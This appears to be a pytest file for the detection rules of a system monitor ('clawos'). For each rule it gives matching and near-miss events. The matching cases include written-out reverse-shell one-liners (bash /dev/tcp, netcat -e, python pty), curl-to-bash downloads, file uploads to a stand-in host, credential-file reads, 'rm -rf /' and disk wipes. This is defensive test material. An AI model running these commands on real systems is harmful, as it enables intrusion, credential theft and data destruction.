"""Each rule that is shipped: something it holds for, and something near to that for which it does not."""

from __future__ import annotations

import json
import re
import tomllib

import fastjsonschema
import pytest
from monitor.events import CALL, RULES, Rig, connect, happened, read, write, x

from clawos.core.parse import to_json
from clawos.monitor.detect.files import load
from clawos.monitor.detect.language import published_schema
from clawos.monitor.event import Event

SCHEMA = RULES.parent / "schema" / "detect.schema.json"
LAUNCHER = "/usr/lib/clawos/claw-launch"

Pair = tuple[list[Event], list[Event]]


def many(count: int, make: object, step_ns: int = 1_000_000) -> list[Event]:
    """So many events, one soon after the other."""
    assert callable(make)
    return [make(n, 10**15 + n * step_ns) for n in range(count)]


def rename(path: str, to: str, **more: object) -> Event:
    return happened("rename", path=path, to=to, **more)  # type: ignore[arg-type]


def link(path: str, to: str, **more: object) -> Event:
    return happened("link", path=path, to=to, symbolic=True, **more)  # type: ignore[arg-type]


def setid(old: int, new: int, **more: object) -> Event:
    return happened("setid", old_uid=old, new_uid=new, old_gid=0, new_gid=0, **more)  # type: ignore[arg-type]


def namespace(how: str, flags: int, **more: object) -> Event:
    return happened("namespace", how=how, flags=flags, **more)  # type: ignore[arg-type]


def socket(family: int, type: int = 1, **more: object) -> Event:  # noqa: A002 # the field's name
    return happened("socket", family=family, type=type, protocol=0, **more)  # type: ignore[arg-type]


def denied(hook: str, **more: object) -> Event:
    return happened("denied", hook=hook, errno=1, **more)  # type: ignore[arg-type]


EXAMPLES: dict[str, Pair] = {
    # execution
    "memory-exec": ([x("x", path="/memfd:x (deleted)", links=0)], [x("x", path="/opt/x", links=0)]),
    "deleted-exec": ([x("x", path="/opt/x (deleted)", links=0)], [x("x", path="/opt/x", links=1)]),
    "shm-exec": ([x("x", path="/dev/shm/x")], [x("ls /dev/shm/x")]),
    "temporary-exec": ([x("/tmp/a.out")], [x("cat /tmp/a.out")]),
    "drop-and-exec": (
        [write("/home/u/x", tgid=1), x("/home/u/x", tgid=2)],
        [read("/home/u/x", tgid=1), x("/home/u/x", tgid=2)],
    ),
    "shell-to-network": (
        [x("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")],
        [x("bash -c 'cat /dev/null'")],
    ),
    "netcat-shell": ([x("nc 10.0.0.1 4444 -e /bin/sh")], [x("nc -l 4444")]),
    "script-shell": (
        [x("""python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'""")],
        [x("""python3 -c 'import socket; print(socket.gethostname())'""")],
    ),
    "terminal-spawn": (
        [x("""python3 -c 'import pty; pty.spawn("/bin/sh")'""")],
        [x("""python3 -c 'import pty; print(pty.__doc__)'""")],
    ),
    "interpreter-shell": ([x("sh -c id", parent="/usr/bin/mawk")], [x("sh -c id", parent="/usr/bin/login")]),
    "reverse-shell": (
        [connect("10.0.0.1", 4443), x("/bin/sh -i")],
        [connect("10.0.0.1", 4443, tgid=1), x("/bin/sh -i", tgid=2)],
    ),
    "bind-shell": (
        [happened("accept", family=2, address="10.0.0.9", port=40000), x("/bin/bash")],
        [happened("accept", family=1, address="", port=0), x("/bin/bash")],
    ),
    "service-shell": ([x("sh -c id", parent="/usr/sbin/nginx")], [x("sh -c id", parent="/usr/sbin/cron")]),
    "encoded-command": (
        [x("sh -c 'echo aWQ= | base64 -d | sh'")],
        [x("sh -c 'echo aWQ= | base64 -d'")],
    ),
    "encoded-script": (
        [x("""python3 -c 'exec(__import__("base64").b64decode("aWQ="))'""")],
        [x("""python3 -c 'print(__import__("base64").b64decode("aWQ="))'""")],
    ),
    "hex-command": ([x("printf '" + r"\x90" * 16 + "'")], [x("printf '" + r"\x90" * 3 + "'")]),
    "download-and-run": (
        [x("bash -c 'curl -s http://x.example/a | bash'")],
        [x("bash -c 'curl -s http://x.example/a | wc -c'")],
    ),
    "transfer-tool": ([x("scp a host:b")], [x("cp a b")]),
    "package-manager": ([x("apt-get install nmap", call=CALL)], [x("apt-get-x install nmap")]),
    "database-spawn": ([x("ls", parent="/usr/bin/mysqld")], [x("mysqld", parent="/usr/bin/mysqld")]),
    "class-download": (
        [write("/tmp/x.class", exe="/usr/bin/java")],
        [write("/tmp/x.class", exe="/usr/bin/javac")],
    ),
    "executable-made": (
        [happened("create", path="/tmp/x", mode=0o100755)],
        [happened("create", path="/tmp/x", mode=0o040755)],
    ),
    "executable-dropped": (
        [happened("create", path="/tmp/x", mode=0o100755)],
        [happened("create", path="/tmp/x", mode=0o100755, exe="/usr/bin/tar")],
    ),
    "compiler-in-sandbox": ([x("gcc a.c", call=CALL)], [x("gcc a.c")]),
    "cluster-client": ([x("kubectl get pods")], [x("kubelog")]),
    "unusual-call": (
        [happened("anomaly", call=CALL, score=0.7, reasons=["ran /usr/bin/nc"])],
        [happened("anomaly", call=CALL, score=0.3, reasons=[])],
    ),
    # credentials
    "accounts-read": ([read("/etc/shadow")], [read("/etc/shadow", exe="/usr/bin/passwd")]),
    "accounts-named": ([x("cat /etc/shadow")], [x("cat /etc/shells")]),
    "private-key-read": ([read("/home/u/.ssh/id_ed25519")], [read("/home/u/.ssh/id_ed25519.pub")]),
    "login-files-read": (
        [read("/root/.ssh/known_hosts")],
        [read("/root/.ssh/known_hosts", exe="/usr/bin/ssh")],
    ),
    "cloud-credentials-read": ([read("/home/u/.aws/credentials")], [read("/home/u/credentials")]),
    "secret-search": ([x("find / -name id_rsa")], [x("find / -name rsa")]),
    "password-search": ([x("grep -r password /etc")], [x("grep -r paper /etc")]),
    "environment-read": ([read("/proc/77/environ")], [read("/proc/77/status")]),
    "process-memory": ([read("/proc/77/mem")], [read("/proc/77/mem", exe="/usr/bin/gdb")]),
    "memory-dump": ([x("dd if=/proc/77/mem of=x")], [x("dd if=/proc/77/stat of=x")]),
    "packet-socket": ([socket(17, 3)], [socket(17, 3, exe="/usr/lib/systemd/systemd-networkd")]),
    "packet-capture": ([x("tcpdump -i any")], [x("tcpdumpx")]),
    "history-read": ([x("cat /home/u/.bash_history")], [x("cat /home/u/history.txt")]),
    "browser-secrets-read": (
        [read("/home/u/.mozilla/firefox/x/logins.json")],
        [read("/home/u/.mozilla/firefox/x/logins.json", exe="/usr/bin/firefox")],
    ),
    "clawos-state": (
        [read("/var/lib/clawos/vault/x", call=CALL)],
        [read("/var/lib/clawos/isolator/home/1000/x", call=CALL)],
    ),
    "password-guessing": (
        many(8, lambda n, t: x("su root", tgid=n, time_ns=t)),
        many(7, lambda n, t: x("su root", tgid=n, time_ns=t)),
    ),
    "password-tool": ([x("john hashes")], [x("johnny hashes")]),
    "input-recording": ([x("script out.txt")], [x("scriptreplay out.txt")]),
    # persistence
    "cron-write": ([write("/etc/cron.d/x")], [write("/etc/cron.d/x", exe="/usr/bin/dpkg")]),
    "scheduler-run": ([x("crontab job")], [x("systemd-run true")]),
    "unit-write": (
        [write("/etc/systemd/system/x.service")],
        [write("/etc/systemd/system/x.service", exe="/usr/bin/systemctl")],
    ),
    "unit-named": ([x("systemctl enable x")], [x("systemctl status x")]),
    "startup-write": ([write("/etc/udev/rules.d/9.rules")], [write("/etc/udev/udev.conf")]),
    "profile-write": ([write("/home/u/.bashrc")], [read("/home/u/.bashrc")]),
    "profile-named": ([x("sh -c 'echo x >> ~/.bashrc'")], [x("sh -c 'echo x >> ~/.notes'")]),
    "profile-read": ([read("/root/.bashrc")], [read("/root/.bashrc", exe="/usr/bin/bash")]),
    "service-start": ([x("systemctl start x")], [x("systemctl cat x")]),
    "shell-trap": ([x("sh -c 'trap \"id\" EXIT'")], [x("sh -c 'echo trap'")]),
    "authorized-keys": (
        [write("/root/.ssh/authorized_keys")],
        [read("/root/.ssh/authorized_keys")],
    ),
    "authorized-keys-named": (
        [x("sh -c 'echo key >> ~/.ssh/authorized_keys'")],
        [x("sh -c 'cat ~/.ssh/authorized_keys'")],
    ),
    "account-write": ([write("/etc/passwd")], [write("/etc/passwd", exe="/usr/sbin/useradd")]),
    "account-tool": ([x("useradd eve")], [x("useradd --help")]),
    "login-module": ([write("/etc/pam.d/sshd")], [read("/etc/pam.d/sshd")]),
    "login-module-named": ([x("sed -i s/a/b/ /etc/pam.d/sshd")], [x("sed -i s/a/b/ /etc/hosts")]),
    "preload-write": ([write("/etc/ld.so.preload")], [write("/etc/ld.so.cache", exe="/usr/sbin/ldconfig")]),
    "preload-named": ([x("sh -c 'LD_PRELOAD=./x.so id'")], [x("sh -c 'LD_DEBUG=libs id'")]),
    "preload-set": ([x("id", loader=["LD_PRELOAD"])], [x("id", loader=["LD_LIBRARY_PATH"])]),
    "kernel-module": ([happened("module", name="evil", call=CALL)], [happened("module", name="evil")]),
    "module-by-hand": (
        [happened("module", name="evil", exe="/usr/sbin/insmod")],
        [
            happened(
                "module", name="ext4", exe="/usr/lib/systemd/systemd-udevd", parent="/usr/lib/systemd/systemd"
            )
        ],
    ),
    "module-tool": (
        [x("modprobe x", path="/usr/bin/kmod", comm="modprobe", parent="/usr/bin/bash")],
        [x("/sbin/lsmod", path="/usr/bin/kmod", comm="lsmod", parent="/usr/bin/bash")],
    ),
    "python-startup": (
        [write("/usr/lib/python3/dist-packages/sitecustomize.py")],
        [write("/home/u/site.py")],
    ),
    "remote-login-settings": ([write("/etc/ssh/sshd_config")], [read("/etc/ssh/sshd_config")]),
    "autostart-write": (
        [write("/home/u/.config/autostart/x.desktop")],
        [write("/home/u/.git/hooks/pre-commit.sample")],
    ),
    "program-write": ([write("/usr/bin/ls")], [write("/usr/lib/python3/x/__pycache__/a.pyc")]),
    "package-record": ([write("/var/lib/dpkg/status")], [write("/var/lib/dpkg/status", exe="/usr/bin/dpkg")]),
    "etc-write": ([write("/etc/hosts")], [read("/etc/hosts")]),
    "root-write": (
        [happened("create", path="/x", mode=0o100644)],
        [happened("create", path="/root/a/x", mode=0o100644)],
    ),
    "settings-write": ([write("/etc/hosts", call=CALL)], [write("/etc/hosts")]),
    # privilege
    "setuid-bit": (
        [happened("chmod", path="/tmp/x", mode=0o104755)],
        [happened("chmod", path="/tmp/x", mode=0o100755)],
    ),
    "setuid-run": (
        [happened("chmod", path="/tmp/x", mode=0o104755, tgid=1), x("/tmp/x", tgid=2)],
        [happened("chmod", path="/tmp/x", mode=0o104755, tgid=1), x("/tmp/y", tgid=2)],
    ),
    "setuid-named": ([x("chmod u+s /tmp/x")], [x("chmod 755 /tmp/x")]),
    "root-shell": (
        [setid(1000, 0, exe="/usr/bin/bash")],
        [setid(0, 1000, exe="/usr/bin/bash")],
    ),
    "unexpected-root": ([setid(1000, 0, exe="/opt/x")], [setid(1000, 0, exe="/usr/bin/sudo")]),
    "identity-changed": (
        [setid(0, 1, exe="/usr/bin/python3.13")],
        [setid(0, 1, exe="/usr/bin/python3.13", parent="/usr/lib/systemd/systemd")],
    ),
    "system-user-shell": (
        [x("sh -i", uid=33)],
        [x("sh -c x", uid=33, parent="/usr/lib/systemd/systemd-executor")],
    ),
    "sudo-hole": ([x("sudoedit -s 'aaaa\\'")], [x("sudoedit /etc/hosts")]),
    "sudo-rights": ([x("sudo -l")], [x("sudo ls")]),
    "ptrace-in-sandbox": (
        [happened("ptrace", target=5, request=16, call=CALL)],
        [happened("ptrace", target=5, request=16, call=CALL, exe=LAUNCHER)],
    ),
    "ptrace": (
        [happened("ptrace", target=5, request=16)],
        [happened("ptrace", target=5, request=16, exe="/usr/bin/strace")],
    ),
    "debugger-run": ([x("strace ls")], [x("trace ls")]),
    "writable-code": (
        [happened("mprotect", address=1, size=4096)],
        [happened("mprotect", address=1, size=4096, exe="/usr/bin/node")],
    ),
    "sensitive-link": ([link("/etc/shadow", "/tmp/x")], [link("/home/u/a", "/tmp/x")]),
    "tunables-set": ([x("su", loader=["GLIBC_TUNABLES"])], [x("su", loader=["LD_AUDIT"])]),
    "sensitive-link-named": ([x("ln -s /etc/shadow /tmp/x")], [x("ln -s /etc/hosts /tmp/x")]),
    "capabilities-taken": (
        [happened("capset", effective=1 << 21, permitted=1 << 21, call=CALL)],
        [happened("capset", effective=0, permitted=0, call=CALL)],
    ),
    # escape
    "release-agent": ([write("/tmp/cg/release_agent")], [read("/tmp/cg/release_agent")]),
    "release-agent-named": (
        [x("sh -c 'echo /x > /tmp/cg/release_agent'")],
        [x("sysctl kernel.core_pattern")],
    ),
    "kernel-helper": (
        [write("/proc/sys/kernel/core_pattern")],
        [write("/proc/sys/kernel/core_pattern", exe="/usr/lib/systemd/systemd-sysctl")],
    ),
    "kernel-settings": (
        [write("/sys/kernel/security/apparmor/.remove")],
        [read("/sys/kernel/security/lsm")],
    ),
    "mount-in-sandbox": (
        [happened("mount", source="x", path="/mnt", type="tmpfs", flags=0, call=CALL)],
        [happened("mount", source="x", path="/mnt", type="tmpfs", flags=0, call=CALL, exe=LAUNCHER)],
    ),
    "mount-by-hand": ([x("mount /dev/sda1 /mnt")], [x("mount")]),
    "mount-hide": (
        [happened("mount", source="x", path="/proc/77", type="", flags=4096)],
        [happened("mount", source="proc", path="/proc/sys/fs/binfmt_misc", type="", flags=0)],
    ),
    "namespace-entered": (
        [namespace("setns", 0, call=CALL)],
        [namespace("setns", 0, call=CALL, exe=LAUNCHER)],
    ),
    "user-namespace": (
        [namespace("unshare", 0x10000000, call=CALL)],
        [namespace("unshare", 0x00020000, call=CALL)],
    ),
    "namespace-tool": ([x("unshare -r sh")], [x("unshare -r sh", parent="/usr/lib/systemd/systemd")]),
    "namespaces-by-hand": (
        [namespace("setns", 0, exe="/usr/bin/nsenter")],
        [namespace("setns", 0, exe="/usr/lib/systemd/systemd")],
    ),
    "bpf-in-sandbox": (
        [happened("bpf", command=5, name="x", call=CALL)],
        [happened("bpf", command=5, name="x")],
    ),
    "bpf-program": (
        [happened("bpf", command=5, name="x")],
        [happened("bpf", command=5, name="x", exe="/usr/lib/systemd/systemd")],
    ),
    "bpf-tool": ([x("bpftool prog")], [x("bpftool2 prog")]),
    "disk-in-sandbox": ([read("/dev/vda2", call=CALL)], [read("/dev/vda2")]),
    "disk-open": ([read("/dev/vda2")], [read("/dev/vda2", exe="/usr/sbin/blkid")]),
    "disk-debugger": ([x("debugfs /dev/vda2")], [x("e2fsck /dev/vda2")]),
    "container-socket": (
        [connect("", 0, 1, path="/run/docker.sock")],
        [connect("", 0, 1, path="/run/dbus/system_bus_socket")],
    ),
    "cgroup-write": (
        [write("/sys/fs/cgroup/x/cgroup.procs", call=CALL)],
        [read("/sys/fs/cgroup/x/cgroup.procs", call=CALL)],
    ),
    "kernel-layout": ([read("/proc/kallsyms", call=CALL)], [read("/proc/kallsyms")]),
    "denied": ([denied("file_open", call=CALL)], [denied("file_open")]),
    "denied-often": (
        many(10, lambda n, t: denied("file_open", call=CALL, time_ns=t)),
        many(10, lambda n, t: denied("file_open", call=CALL, time_ns=t), 5_000_000_000),
    ),
    "guard": ([denied("bpf")], [denied("file_open")]),
    # evasion
    "log-clearing": (
        [write("/var/log/auth.log")],
        [write("/var/log/auth.log", exe="/usr/sbin/rsyslogd")],
    ),
    "log-clearing-named": ([x("truncate -s 0 /var/log/auth.log")], [x("truncate -s 0 /tmp/auth.log")]),
    "history-clearing": (
        [happened("unlink", path="/home/u/.bash_history")],
        [happened("rename", path="/home/u/.bash_history", to="/home/u/x", exe="/usr/bin/bash")],
    ),
    "history-clearing-named": ([x("rm /root/.bash_history")], [x("rm /root/bash.txt")]),
    "time-stamps": ([x("touch -t 199901010000 x")], [x("touch x")]),
    "firewall-change": ([x("iptables -F")], [x("iptables -L")]),
    "defence-stop": ([x("systemctl stop auditd")], [x("systemctl status auditd")]),
    "audit-off": ([x("auditctl -e 0")], [x("auditctl -l")]),
    "record-settings": ([write("/etc/audit/auditd.conf")], [read("/etc/audit/auditd.conf")]),
    "hidden-program": ([x("/home/u/.x")], [x("/home/u/.cargo/bin/x")]),
    "hidden-file": ([x("mkdir /tmp/.x")], [x("mkdir /tmp/x")]),
    "hidden-made": (
        [happened("create", path="/tmp/.x", mode=0o100644)],
        [happened("create", path="/tmp/x", mode=0o100644)],
    ),
    "false-name": ([x("/tmp/sshd")], [x("/usr/sbin/sshd")]),
    "kernel-name": (
        [happened("fork", child_pid=9, child_start_ns=9, comm="kworker/0:9")],
        [happened("fork", child_pid=9, child_start_ns=9, comm="kworker/0:9", exe="", tgid=31)],
    ),
    "file-attributes": ([x("chattr +i x")], [x("lsattr x")]),
    "secure-deletion": ([x("shred x")], [x("rm x")]),
    "file-deletion": ([x("rm x")], [x("find . -print")]),
    "decoding": ([x("base64 -d x")], [x("xxd x")]),
    "packing": ([x("upx x")], [x("unzip x")]),
    "device-file": (
        [happened("create", path="/dev/x", mode=0o100644)],
        [happened("create", path="/dev/shm/x", mode=0o100644)],
    ),
    "virtual-machine-check": ([x("systemd-detect-virt")], [x("systemd-analyze")]),
    # discovery
    "system-discovery": ([x("uname -a")], [x("unarj")]),
    "module-discovery": (
        [x("lsmod", path="/usr/bin/kmod", comm="lsmod")],
        [x("modprobe x", path="/usr/bin/kmod", comm="modprobe")],
    ),
    "user-discovery": ([x("whoami")], [x("whatis")]),
    "process-discovery": ([x("ps aux")], [x("systemctl daemon-reload")]),
    "network-discovery": ([x("ss -lnt")], [x("sshx")]),
    "file-discovery": ([x("find / -name x")], [x("findx")]),
    "remote-discovery": ([x("arp -a")], [x("ip link")]),
    "scanner": ([x("nmap 10.0.0.0/24")], [x("nc 10.0.0.1 80")]),
    "port-scan": (
        many(20, lambda n, t: connect("10.0.0.1", 1000 + n, time_ns=t)),
        many(40, lambda n, t: connect("10.0.0.1", 1000 + n % 3, time_ns=t)),
    ),
    "address-scan": (
        many(20, lambda n, t: connect(f"10.0.0.{n}", 22, time_ns=t)),
        many(40, lambda n, t: connect("10.0.0.1", 22, time_ns=t)),
    ),
    "password-policy": ([x("chage -l root")], [x("cat /etc/hosts")]),
    "software-discovery": ([x("dpkg -l")], [x("dpkg -i x.deb")]),
    "defence-discovery": ([x("sh -c 'ps | grep falcon'")], [x("systemctl status auditd")]),
    "time-discovery": ([x("timedatectl")], [x("uptime")]),
    "device-discovery": ([x("lspci")], [x("lsx")]),
    "browser-discovery": ([x("find / -name places.sqlite")], [x("find / -name x.sqlite")]),
    "log-discovery": ([x("cat /var/log/auth.log")], [x("cat /var/log/dpkg.log")]),
    "looking-round": (
        [
            x(program, tgid=n, time_ns=10**15 + n)
            for n, program in enumerate(["id", "whoami", "uname", "ps", "ss", "w", "last", "lscpu"])
        ],
        many(20, lambda n, t: x("id", tgid=n, time_ns=t)),
    ),
    # network
    "metadata-service": ([connect("169.254.169.254", 80)], [connect("169.254.1.1", 80)]),
    "metadata-named": ([x("curl http://169.254.169.254/latest")], [x("curl http://example.org/latest")]),
    "miner-port": ([connect("10.0.0.1", 3333)], [connect("10.0.0.1", 443)]),
    "miner": ([x("./x -o stratum+tcp://pool:3333")], [x("./x -o tcp://pool:3333")]),
    "miner-name": (
        [happened("dns", name="pool.supportxmr.com", type=1)],
        [happened("dns", name="support.example.com", type=1)],
    ),
    "sandbox-connect": (
        [connect("10.0.0.1", 443, call=CALL)],
        [connect("198.19.255.1", 8118, call=CALL)],
    ),
    "sandbox-serves": (
        [happened("bind", family=2, address="0.0.0.0", port=80, call=CALL)],
        [happened("bind", family=2, address="127.0.0.1", port=80, call=CALL)],
    ),
    "raw-socket": ([socket(2, 3)], [socket(2, 1)]),
    "rare-socket": ([socket(40, call=CALL)], [socket(1, call=CALL)]),
    "system-program-connects": (
        [connect("10.0.0.1", 443, exe="/usr/bin/cat")],
        [connect("", 0, 1, exe="/usr/bin/cat", path="/run/x")],
    ),
    "interpreter-connects": (
        [connect("10.0.0.1", 443, exe="/usr/bin/python3.13")],
        [connect("127.0.0.1", 443, exe="/usr/bin/python3.13")],
    ),
    "interpreter-serves": (
        [happened("listen", family=2, address="0.0.0.0", port=80, backlog=5, exe="/usr/bin/python3.13")],
        [happened("listen", family=1, address="", port=0, backlog=5, exe="/usr/bin/python3.13")],
    ),
    "remote-login": ([x("ssh host")], [x("ssh-keygen -l")]),
    "remote-login-port": (
        [connect("10.0.0.1", 443, exe="/usr/bin/ssh")],
        [connect("10.0.0.1", 22, exe="/usr/bin/ssh")],
    ),
    "tunnel": ([x("ssh -N -R 80:localhost:80 host")], [x("ssh -i key host")]),
    "name-tunnel": (
        many(5, lambda n, t: happened("dns", name="a" * 55 + f"{n}.example.com", type=16, time_ns=t)),
        many(5, lambda n, t: happened("dns", name=f"{n}.example.com", type=1, time_ns=t)),
    ),
    "upload": ([x("curl -T /etc/hosts http://x.example/")], [x("curl -o out http://x.example/")]),
    "quick-server": ([x("python3 -m http.server")], [x("python3 -m json.tool")]),
    "archive": ([x("tar cf x.tar y")], [x("tar")]),
    "encrypted-archive": ([x("zip -P secret x.zip y")], [x("zip x.zip y")]),
    # impact
    "ransom-names": (
        many(10, lambda n, t: rename(f"/home/u/{n}", f"/home/u/{n}.locked", time_ns=t)),
        many(30, lambda n, t: rename(f"/home/u/{n}", f"/home/u/{n}.bak", time_ns=t)),
    ),
    "mass-rename": (
        many(100, lambda n, t: rename(f"/home/u/{n}", f"/home/u/{n}.x", time_ns=t)),
        many(300, lambda n, t: rename(f"/home/u/{n}.pyc.1", f"/home/u/{n}.pyc", time_ns=t)),
    ),
    "mass-deletion": (
        many(200, lambda n, t: happened("unlink", path=f"/home/u/{n}", time_ns=t)),
        many(400, lambda n, t: happened("unlink", path=f"/tmp/{n}", time_ns=t)),
    ),
    "mass-encryption": (
        many(5, lambda n, t: x(f"openssl enc -in {n}", tgid=n, time_ns=t)),
        many(5, lambda n, t: x(f"openssl version {n}", tgid=n, time_ns=t)),
    ),
    "remove-everything": ([x("rm -rf /")], [x("rm -rf ./build")]),
    "disk-wipe": (
        [x("dd if=/dev/zero of=/dev/vda")],
        [x("mkfs.ext4 /dev/vda3", parent="/usr/lib/systemd/systemd-makefs")],
    ),
    "overwrite": ([x("dd if=/dev/zero of=x")], [x("dd if=y of=x")]),
    "fork-bomb": (
        many(2000, lambda n, t: happened("fork", child_pid=n, child_start_ns=t, call=CALL, time_ns=t), 1000),
        many(2000, lambda n, t: happened("fork", child_pid=n, child_start_ns=t, time_ns=t), 1000),
    ),
    "power": ([x("systemctl reboot")], [x("systemctl restart x")]),
    "service-stop": ([x("systemctl stop x")], [x("systemctl start x")]),
    "signal-by-hand": (
        [happened("kill", target=5, signal=15, exe="/usr/bin/bash")],
        [happened("kill", target=5, signal=1, exe="/usr/bin/bash")],
    ),
    "kill-storm": (
        many(25, lambda n, t: happened("kill", target=n, signal=9, time_ns=t)),
        many(25, lambda n, t: happened("kill", target=n, signal=15, time_ns=t)),
    ),
    "busy-loop": ([x("yes")], [x("yesterday")]),
    "lost-events": ([happened("lost", count=3, of="open")], [happened("lost", count=0, of="open")]),
}

RULE_SET = load([RULES])
IDS = [compiled.rule.id for compiled in RULE_SET.rules]


def test_every_rule_has_its_example() -> None:
    assert set(EXAMPLES) == set(IDS)


def test_there_are_enough_and_they_are_mapped() -> None:
    assert len(IDS) >= 40
    unmapped = [c.rule.id for c in RULE_SET.rules if not c.rule.attack]
    assert unmapped == []


@pytest.mark.parametrize("rule", IDS)
def test_rule_hits_and_nearly_does_not(rule: str) -> None:
    hits, misses = EXAMPLES[rule]
    rig = Rig()
    assert rule in rig.feed(*hits)
    at = [one for one, _ in rig.hits].index(rule)
    assert "{" not in rig.messages[at]
    assert rule not in Rig().feed(*misses)


@pytest.mark.parametrize("rule", RULE_SET.rules, ids=lambda c: c.rule.id)
def test_every_reaction_is_told(rule: object) -> None:
    """Whoever ends something says so on the bus."""
    react = rule.rule.react  # type: ignore[attr-defined]
    assert react == ("log",) or "alert" in react


def test_published_schema_is_that_of_the_parser() -> None:
    assert json.loads(SCHEMA.read_text()) == json.loads(to_json(published_schema()))


@pytest.mark.parametrize("file", sorted(RULES.glob("*.toml")), ids=lambda file: file.stem)
def test_rules_keep_to_the_published_schema(file: object) -> None:
    validate = fastjsonschema.compile(json.loads(SCHEMA.read_text()))
    validate(tomllib.loads(file.read_text()))  # type: ignore[attr-defined]
    broken = tomllib.loads(file.read_text()) | {"rule": [{"id": "Not An Id"}]}  # type: ignore[attr-defined]
    with pytest.raises(fastjsonschema.JsonSchemaValueException):
        validate(broken)


def test_ordinary_work_raises_nothing_of_weight() -> None:
    """What a compile job and a shell do: nothing above medium."""
    rig = Rig()
    ordinary = [
        x("bash -c make", tgid=1),
        x("make -j2", tgid=2),
        x("gcc -O2 -c a.c -o a.o", tgid=3),
        write("/home/u/src/a.o", tgid=3),
        x("tar xf a.tar", tgid=4),
        *many(500, lambda n, t: write(f"/home/u/src/{n}.c", tgid=4, time_ns=t)),
        *many(300, lambda n, t: happened("unlink", path=f"/tmp/cc{n}.o", tgid=3, time_ns=t)),
        x("git status", tgid=5),
        read("/etc/passwd", tgid=5),
        read("/usr/lib/x86_64-linux-gnu/libc.so.6", tgid=5),
        connect("127.0.0.1", 8080, tgid=6),
    ]
    hits = rig.feed(*ordinary)
    severe = {c.rule.id for c in RULE_SET.rules if c.rule.severity in ("high", "critical")}
    assert hits & severe == set()


def test_no_word_of_the_rules_is_hidden() -> None:
    for compiled in RULE_SET.rules:
        assert re.fullmatch(r"[^\n]+", compiled.rule.message)
        assert compiled.rule.title[0].isupper() or compiled.rule.title.startswith(("sudo", "netcat"))


def test_a_script_is_known_by_its_own_name_too() -> None:
    """The kernel tells its interpreter's path."""
    rig = Rig()
    assert "cluster-client" in rig.feed(
        x("/bin/sh /opt/kubectl get pods", path="/usr/bin/dash", comm="kubectl")
    )
    assert "cluster-client" not in rig.feed(x("/bin/sh /opt/other", path="/usr/bin/dash", comm="other"))
